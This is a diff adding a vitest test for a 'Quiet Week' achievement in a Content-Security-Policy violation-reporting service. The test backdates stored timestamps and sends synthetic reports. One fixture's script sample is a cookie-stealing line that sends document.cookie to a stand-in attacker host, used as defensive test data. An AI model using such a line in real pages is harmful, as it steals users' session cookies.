@@ -1,7 +1,10 @@
 // Achievements unlocked by real actions over HTTP: adding a domain, turning on 2FA, receiving a violation
 // report through the real endpoint; progress and stats; an unlock shown once; only one's own.
+import { UpdateCommand } from '@aws-sdk/lib-dynamodb';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { LocalServer } from '../../local/server';
+import { getCounters } from '../../store/achievements';
+import { achievementCountersKey } from '../../store/keys';
 import { registeredClient, startTestServer } from '../../testing/api-server';
 import { sendReport, until } from '../../testing/reports';
 import { totpCode } from '../../testing/totp-codes';
@@ -64,6 +67,63 @@ describe('achievements', () => {
     expect(stats.totalAchievements).toBe(3);
     expect(stats.totalPoints).toBe(list.reduce((n, a) => n + a.points, 0));
     expect(stats.rarityBreakdown).toMatchObject({ common: 2, rare: 1 });
+  });
+
+  it('unlocks Quiet Week after 7 days of reports without a new suspicious inline-code group', async () => {
+    const { client, user } = await registeredClient(server.url);
+    const domain = await (
+      await client.post('/api/domains', { name: 'Site', url: 'https://site.example/' })
+    ).json();
+    const db = server.deps.db;
+    const counters = () => getCounters(db, user.id);
+    /** Moves the stored moments back in time, as if days had passed. */
+    const daysAgo = async (field: 'firstReportAt' | 'lastSuspiciousAt', days: number) =>
+      db.doc.send(
+        new UpdateCommand({
+          TableName: db.table,
+          Key: achievementCountersKey(user.id),
+          UpdateExpression: 'SET #f = :t',
+          ExpressionAttributeNames: { '#f': field },
+          ExpressionAttributeValues: { ':t': Date.now() - days * 86_400_000 },
+        }),
+      );
+    const unlockedTypes = async () => types(await (await client.get('/api/achievements')).json());
+    const quiet = async () =>
+      (await (await client.get('/api/achievements/progress')).json()).find(
+        (p: { achievementType: string }) => p.achievementType === 'quiet-week',
+      );
+
+    // No reports yet: no streak.
+    expect(await quiet()).toEqual({ achievementType: 'quiet-week', currentValue: 0, targetValue: 7 });
+    await sendReport(server.url, domain.uuid);
+    expect((await until(counters, (c) => Boolean(c.firstReportAt))).firstReportAt).toBeDefined();
+    await daysAgo('firstReportAt', 6);
+    expect((await quiet()).currentValue).toBe(6);
+    expect(await unlockedTypes()).not.toContain('quiet-week');
+
+    // Inline code the crawl never saw (no crawl yet): suspicious, the week starts again.
+    const injected = {
+      'document-uri': 'https://site.example/search?q=x',
+      'violated-directive': 'script-src-elem',
+      'blocked-uri': 'inline',
+      'script-sample': 'fetch("https://evil.example/?c="+document.cookie)',
+    };
+    await sendReport(server.url, domain.uuid, injected);
+    expect((await until(counters, (c) => Boolean(c.lastSuspiciousAt))).lastSuspiciousAt).toBeDefined();
+    await daysAgo('firstReportAt', 30);
+    expect((await quiet()).currentValue).toBe(0);
+    expect(await unlockedTypes()).not.toContain('quiet-week');
+
+    // The same group again is not new: it does not restart the week.
+    await daysAgo('lastSuspiciousAt', 7);
+    const before = (await counters()).reportsReceived ?? 0;
+    // (Another page, so it is not dropped as an exact repeat; same directive, code and sample.)
+    await sendReport(server.url, domain.uuid, { ...injected, 'document-uri': 'https://site.example/other' });
+    expect((await until(counters, (c) => (c.reportsReceived ?? 0) > before)).reportsReceived).toBeGreaterThan(
+      before,
+    );
+    expect((await quiet()).currentValue).toBe(7);
+    expect(await unlockedTypes()).toContain('quiet-week');
   });
 
   it('marks an unlock as shown, once; someone else’s are not found', async () => {
